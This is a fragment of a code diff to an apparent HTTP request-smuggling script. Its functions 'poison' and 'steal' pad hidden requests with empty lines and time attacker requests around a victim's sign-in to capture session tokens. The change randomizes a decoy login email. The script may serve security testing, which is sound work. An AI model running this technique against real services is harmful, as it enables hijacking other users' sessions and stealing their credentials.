@@ -18,7 +18,6 @@ SIGN_IN = "/api/v4/session/token"
 REFRESH = "/api/v4/session/token/refresh"
 ID = "x-cr-correlation-id"
 GARBAGE = {"refresh_token": "garbage"}
-WRONG = {"email": "nobody@example.com", "password": "wrong"}
 TRIES = 8
 PADDING = 300_000
 """Bytes of empty lines before the hidden requests. Servers skip them before a request line, so it
@@ -94,7 +93,8 @@ def ask(target: Target, toll: Toll, *requests: tuple[str, bytes]) -> None:
 def steal(target: Target, victim: dict[str, str], toll: Toll, protocol: str) -> None:
     """The attacker asks before and after a victim, each as soon as the one before is answered."""
     poison(target, protocol, slow(uuid.uuid4().hex))
-    for path, body in ((SIGN_IN, WRONG), (SIGN_IN, victim), (REFRESH, GARBAGE)):
+    wrong = {"email": f"{uuid.uuid4().hex}@example.com", "password": "wrong"}
+    for path, body in ((SIGN_IN, wrong), (SIGN_IN, victim), (REFRESH, GARBAGE)):
         correlation = uuid.uuid4().hex
         ask(target, toll, (correlation, request(path, body, correlation)))
 
